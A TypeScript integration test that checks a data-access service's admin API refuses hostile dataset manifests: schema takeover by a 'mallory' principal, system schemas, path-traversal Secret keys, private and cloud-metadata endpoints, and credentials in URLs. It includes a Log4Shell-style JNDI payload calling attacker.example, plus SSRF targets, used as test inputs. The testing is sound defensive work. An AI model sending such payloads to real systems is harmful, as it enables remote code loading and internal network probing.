/**
 * Issue 19, finding 4, through `npm start` (dataplane/src/main.ts with the example manifests on
 * its embedded PostgreSQL): an admin may not point a new Dataset at another dataset's storage or a
 * system schema, nor write what the CRD would refuse, nor name private endpoints; a manifest whose
 * storage overlaps a served dataset's is refused at load while the served one keeps working.
 */
import { expect } from 'chai';
import { chmodSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import pg from 'pg';
import { stringify } from 'yaml';
import { freePort } from '../src/db/embedded.js';
import { EXAMPLES_DIR } from '../test-support/dataplane.js';
import { client, type CallResult } from '../test-support/http.js';
import { startMain, waitReady, type MainProcess } from '../test-support/main-process.js';

describe('administrative API and manifests: a dataset\'s storage is its own (npm start)', function () {
  this.timeout(180_000);
  let main: MainProcess;
  let url: string;
  let dataDir: string;
  let manifests: string;
  let db: pg.Client;
  let admin: ReturnType<typeof client>;
  let demoId: string;

  /** A manifest that takes demo's schema, from someone other than demo's owners. */
  const copycat = (name: string) => ({
    apiVersion: 'dataaccess.dev/v1alpha1',
    kind: 'Dataset',
    metadata: { name },
    spec: {
      environment: 'local',
      location: { kind: 'postgres', databaseSchema: 'demo' },
      auth: { iam: { principals: ['mallory'] } },
      caller: { super: ['mallory'] },
      schemas: { 'demo.Person': { properties: { name: { type: 'string' }, owner: { type: 'string' } } } },
    },
  });
  const demoColumns = async () =>
    (await db.query("SELECT table_name || '.' || column_name AS c FROM information_schema.columns WHERE table_schema = 'demo' ORDER BY 1")).rows.map((r) => r.c as string);
  const readiness = async () => (await client(url, {})({ path: '/readyz' })).json;
  const until = async (what: () => Promise<boolean>, label: string) => {
    const deadline = Date.now() + 20_000;
    while (!(await what())) {
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${label}: ${JSON.stringify(await readiness())}`);
      await new Promise((r) => setTimeout(r, 200));
    }
  };

  before(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'das-admin-storage-'));
    chmodSync(dataDir, 0o755); // as root, the embedded server runs as the postgres user and must reach it
    manifests = mkdtempSync(join(tmpdir(), 'das-admin-storage-manifests-'));
    cpSync(EXAMPLES_DIR, manifests, { recursive: true });
    // A platform manifest that takes demo's schema, loaded at start: refused, demo (first by name) keeps it.
    writeFileSync(join(manifests, 'dataset-mimic.yaml'), stringify(copycat('mimic')));
    const port = await freePort();
    url = `http://127.0.0.1:${port}`;
    main = startMain({ DATA_DIR: dataDir, PORT: String(port), HOST: '127.0.0.1', DAS_MANIFESTS: manifests, DAS_ADMIN_ALLOWED_ENDPOINTS: 'http://127.0.0.1:8000' });
    await waitReady(url, main, 150_000);
    const pgPort = /"port":(\d+)[^\n]*embedded PostgreSQL started/.exec(main.output())?.[1];
    const password = readFileSync(join(dataDir, 'postgres', 'superuser.password'), 'utf8').trim();
    db = new pg.Client({ host: '127.0.0.1', port: Number(pgPort), user: 'postgres', password, database: 'postgres' });
    await db.connect();
    admin = client(url, { host: 'iam.localhost', headers: { authorization: 'Proxy demo-admin' } });
    const created = await admin({ path: '/demo', body: { create: { schema: 'demo.Person', data: { name: 'Ada', email: 'ada@example.com' } } } });
    expect(created.status, created.text).to.equal(201);
    demoId = created.json.id;
  });

  after(async () => {
    await db?.end().catch(() => undefined);
    if (main && main.child.exitCode === null) {
      main.child.kill('SIGTERM');
      await main.exited;
    }
  });

  it('a manifest whose schema a served dataset holds is refused and reported; the served one keeps working', async () => {
    const ready = await readiness();
    expect(ready.datasets.mimic.status).to.equal('failed');
    expect(ready.datasets.mimic.problem).to.contain('PostgreSQL schema "demo"').and.contain('dataset "demo"');
    expect(ready.datasets.demo.status).to.equal('ready');
    const mallory = await client(url, { host: 'iam.localhost', headers: { authorization: 'Proxy mallory' } })({ path: `/mimic/demo.Person/${demoId}` });
    expect(mallory.status).to.equal(503);
    expect(mallory.json.error.code).to.equal('DATASET_UNAVAILABLE');

    // One added later sorts before demo, but demo already serves the schema.
    writeFileSync(join(manifests, 'dataset-aardvark.yaml'), stringify(copycat('aardvark')));
    await until(async () => (await readiness()).datasets.aardvark?.status === 'failed', 'aardvark refused');
    expect((await readiness()).datasets.demo.status).to.equal('ready');
    expect((await admin({ path: `/demo/demo.Person/${demoId}` })).json.version).to.equal(1);
  });

  it('POST /_admin/datasets onto demo\'s schema with principals [mallory]: 409 naming demo; demo\'s records and columns unchanged', async () => {
    const columns = await demoColumns();
    expect(columns.some((c) => c.endsWith('.name'))).to.equal(true);
    expect(columns.some((c) => c.endsWith('.owner'))).to.equal(false);
    const attack = await admin({ path: '/_admin/datasets', body: { metadata: { name: 'mallory-demo' }, spec: copycat('x').spec } });
    expect(attack.status, attack.text).to.equal(409);
    expect(attack.json.error.code).to.equal('STORAGE_IN_USE');
    expect(attack.json.error.message).to.contain('dataset "demo"');
    expect(attack.json.error.details[0]).to.include({ path: '$.spec.location', dataset: 'demo' });
    expect(attack.json.requestId).to.be.a('string');

    // Nothing was written: not listed, not served, and mallory reaches nothing.
    await new Promise((r) => setTimeout(r, 1000));
    expect((await admin({ path: '/_admin/datasets/mallory-demo' })).status).to.equal(404);
    const mallory = client(url, { host: 'iam.localhost', headers: { authorization: 'Proxy mallory' } });
    const read = await mallory({ path: `/mallory-demo/demo.Person/${demoId}` });
    expect(read.status).to.equal(404);
    expect(read.json.error.code).to.equal('DATASET_NOT_FOUND');
    const write = await mallory({ path: '/mallory-demo', body: { update: { schema: 'demo.Person', id: demoId, data: { name: 'owned by mallory' } } } });
    expect(write.status).to.equal(404);

    const demo = await admin({ path: `/demo/demo.Person/${demoId}` });
    expect(demo.json).to.include({ version: 1, name: 'Ada' });
    expect(await demoColumns()).to.deep.equal(columns);
  });

  it('refuses the stores\' own schemas, bad Secret keys, unknown fields and a body the firewall blocks (400/403, nothing written)', async () => {
    const spec = (location: object) => ({ ...copycat('x').spec, location });
    const refused = async (body: unknown): Promise<CallResult> => {
      const res = await admin({ path: '/_admin/datasets', body });
      expect(res.status, res.text).to.be.within(400, 499);
      return res;
    };
    for (const schema of ['information_schema', 'pg_catalog', 'public', 'das_internal']) {
      const res = await refused({ metadata: { name: 'meta' }, spec: spec({ kind: 'postgres', databaseSchema: schema }) });
      expect(res.status).to.equal(400);
      expect(res.json.error.details.map((d: { path: string }) => d.path)).to.include('$.spec.location.databaseSchema');
    }
    for (const key of ['..', '.', '..url', 'a/b']) {
      const res = await refused({ metadata: { name: 'keys' }, spec: spec({ kind: 'postgres', databaseSchema: 'keys', connectionSecretRef: { name: 'db', key } }) });
      expect(res.status).to.equal(400);
      expect(res.json.error.details.map((d: { path: string }) => d.path)).to.include('$.spec.location.connectionSecretRef.key');
    }
    const unknown = await refused({ metadata: { name: 'extra', labels: { a: 'b' } }, spec: spec({ kind: 'postgres', databaseSchema: 'extra' }) });
    expect(unknown.json.error.details[0].path).to.equal('$.metadata["labels"]');
    const status = await refused({ metadata: { name: 'extra' }, spec: spec({ kind: 'postgres', databaseSchema: 'extra' }), status: { ready: true } });
    expect(status.json.error.details[0].path).to.equal('$["status"]');
    const wrongKind = await refused({ kind: 'Environment', metadata: { name: 'extra' }, spec: spec({ kind: 'postgres', databaseSchema: 'extra' }) });
    expect(wrongKind.json.error.details[0].path).to.equal('$.kind');
    // The example Environment enables the firewall's managed rules: they read admin bodies too.
    const exploit = await refused({ metadata: { name: 'jndi' }, spec: { ...spec({ kind: 'postgres', databaseSchema: 'jndi' }), schemas: { 'a.B': { description: '${jndi:ldap://attacker.example/a}', properties: { n: { type: 'string' } } } } } });
    expect(exploit.status).to.equal(403);
    expect(exploit.json.error.code).to.equal('FIREWALL_BLOCKED');
    const listed = (await admin({ path: '/_admin/datasets' })).json.items.map((d: { id: string }) => d.id);
    for (const name of ['meta', 'keys', 'extra', 'jndi']) expect(listed).to.not.include(name);
  });

  it('endpoints: link-local, metadata and private addresses refused; an origin DAS_ADMIN_ALLOWED_ENDPOINTS lists accepted', async () => {
    const dynamo = (name: string, endpoint: string) => ({
      metadata: { name },
      spec: { location: { kind: 'dynamodb', region: 'us-east-1', endpoint, tablePrefix: `${name}-` }, auth: { iam: { principals: ['ops'] } }, schemas: { 'a.B': { properties: { n: { type: 'string' } } } } },
    });
    // Metadata URLs: the firewall's managed rules (on in the example Environment) already block the body; either refusal will do.
    for (const endpoint of ['http://169.254.169.254', 'http://[fd00:ec2::254]/']) {
      const res = await admin({ path: '/_admin/datasets', body: dynamo('probe', endpoint) });
      expect(`${res.status} ${res.json.error.code}`, `${endpoint}: ${res.text}`).to.be.oneOf(['400 ENDPOINT_FORBIDDEN', '403 FIREWALL_BLOCKED']);
    }
    for (const endpoint of ['http://10.0.0.5:8000', 'http://127.0.0.1:9999', 'http://[::ffff:10.1.2.3]', 'http://localhost:8000', 'http://172.16.0.1', 'http://[fe80::1]']) {
      const res = await admin({ path: '/_admin/datasets', body: dynamo('probe', endpoint) });
      expect(res.status, `${endpoint}: ${res.text}`).to.equal(400);
      expect(res.json.error.code).to.equal('ENDPOINT_FORBIDDEN');
      expect(res.json.error.details[0].path).to.equal('$.spec.location.endpoint');
    }
    const warehouse = await admin({
      path: '/_admin/datasets',
      body: {
        metadata: { name: 'wh' },
        spec: {
          location: { kind: 'snowflake', accessUrl: 'http://192.168.1.10', database: 'WH', schema: 'WH', warehouse: 'W', connectionSecretRef: { name: 'login', key: 'login' } },
          auth: { iam: { principals: ['ops'] } },
          schemas: { 'a.B': { properties: { n: { type: 'string' } } } },
        },
      },
    });
    expect(warehouse.status, warehouse.text).to.equal(400);
    expect(warehouse.json.error.details[0].path).to.equal('$.spec.location.accessUrl');

    // Credentials in the URL are refused first, whatever the origin: allowed, public or private.
    for (const endpoint of ['http://u:p@127.0.0.1:8000', 'http://u@127.0.0.1:8000', 'http://:p@127.0.0.1:8000/', 'https://u:p@dynamodb.us-east-1.amazonaws.com']) {
      const res = await admin({ path: '/_admin/datasets', body: dynamo('creds', endpoint) });
      expect(res.status, `${endpoint}: ${res.text}`).to.equal(400);
      expect(res.json.error.code).to.equal('INVALID_FIELD');
      expect(res.json.error.message).to.contain('"spec.location.endpoint" must not carry credentials');
      expect(res.json.error.details[0].path).to.equal('$.spec.location.endpoint');
    }
    const warehouseCreds = await admin({
      path: '/_admin/datasets',
      body: {
        metadata: { name: 'wh-creds' },
        spec: {
          location: { kind: 'snowflake', accessUrl: 'http://u:p@127.0.0.1:8000', database: 'WH', schema: 'WH', warehouse: 'W', connectionSecretRef: { name: 'login', key: 'login' } },
          auth: { iam: { principals: ['ops'] } },
          schemas: { 'a.B': { properties: { n: { type: 'string' } } } },
        },
      },
    });
    expect(warehouseCreds.status, warehouseCreds.text).to.equal(400);
    expect(warehouseCreds.json.error.code).to.equal('INVALID_FIELD');
    expect(warehouseCreds.json.error.details[0].path).to.equal('$.spec.location.accessUrl');
    const written = (await admin({ path: '/_admin/datasets' })).json.items.map((d: { id: string }) => d.id);
    expect(written).to.not.include('creds');
    expect(written).to.not.include('wh-creds');

    // DynamoDB Local's origin is allowed by the setting, so the endpoint rule lets it through; the
    // create then reads the storage to learn who owns it (docs/security.md), and no store runs at that
    // origin here: 503 STORE_UNAVAILABLE, retryable, and nothing written. Past the rule, not refused by it.
    const allowed = await admin({ path: '/_admin/datasets', body: dynamo('local-shop', 'http://127.0.0.1:8000') });
    expect([allowed.status, allowed.json.error.code], allowed.text).to.deep.equal([503, 'STORE_UNAVAILABLE']);
    expect(allowed.json.error.message).to.include('who owns it');
    expect((await admin({ path: '/_admin/datasets' })).json.items.map((d: { id: string }) => d.id)).to.not.include('local-shop');
  });

  it('two creates at once on the same schema: one is written, the other is 409', async () => {
    const body = (name: string) => ({ metadata: { name }, spec: { ...copycat('x').spec, location: { kind: 'postgres', databaseSchema: 'twins' } } });
    const answers = await Promise.all([admin({ path: '/_admin/datasets', body: body('twin-a') }), admin({ path: '/_admin/datasets', body: body('twin-b') })]);
    expect(answers.map((a) => a.status).sort()).to.deep.equal([201, 409]);
    const refused = answers.find((a) => a.status === 409)!;
    expect(refused.json.error.code).to.equal('STORAGE_IN_USE');
  });

  it('the process stayed up throughout', async () => {
    expect(main.child.exitCode).to.equal(null);
    expect((await client(url, {})({ path: '/healthz' })).status).to.equal(200);
  });
});
